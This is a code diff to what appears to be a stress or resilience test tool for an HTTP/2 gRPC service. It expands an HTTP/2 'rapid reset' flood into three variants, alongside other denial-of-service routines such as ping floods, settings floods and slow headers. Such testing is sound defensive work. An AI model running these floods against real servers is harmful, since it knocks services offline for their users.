@@ -86,17 +86,21 @@ def slow_header(address, until, token=None, pause=1.0):
         return sent
 
 
-def _calls(stream, reset):
-    head = http2.call_head(stream, "Detect")
-    return head + frame(RESET, b"\0\0\0\x08", 0, stream) if reset else head
+# Beginnings of calls that are reset.
+RESET_CALLS = {
+    "stream": lambda stream, token: http2.call_head(stream, "Detect", token),
+    "unary": lambda stream, token: http2.unary_call(stream, "Describe", b"", token),
+    "without token": lambda stream, token: http2.call_head(stream, "Detect"),
+}
 
 
-def rapid_reset(address, until, token=None, batch=500):
+def rapid_reset(address, until, token=None, kind="stream", batch=500):
     """Opens calls, and resets each at once."""
     sent, stream = 0, 3
     with _connected(address, token) as connection:
         while time.monotonic() < until:
-            data = b"".join(_calls(one, True) for one in range(stream, stream + 2 * batch, 2))
+            data = b"".join(RESET_CALLS[kind](one, token) + frame(RESET, b"\0\0\0\x08", 0, one)
+                            for one in range(stream, stream + 2 * batch, 2))
             stream += 2 * batch
             if not connection.send(data, max(0.0, until - time.monotonic())):
                 break
@@ -174,7 +178,7 @@ def _upload_head(stream):
 
 
 KINDS = {"silent": silent, "garbage": garbage, "client hello": client_hello, "slow header": slow_header,
-         "rapid reset": rapid_reset, "ping flood": ping_flood, "settings flood": settings_flood,
+         **{f"rapid reset, {kind}": functools.partial(rapid_reset, kind=kind) for kind in RESET_CALLS}, "ping flood": ping_flood, "settings flood": settings_flood,
          "tokenless calls": tokenless_calls, "health watch": health_watch, "unread results": unread_results,
          "half uploads": half_uploads,
          **{f"endless header, {kind}": functools.partial(endless_header, kind=kind) for kind in ENDLESS_HEADERS}}
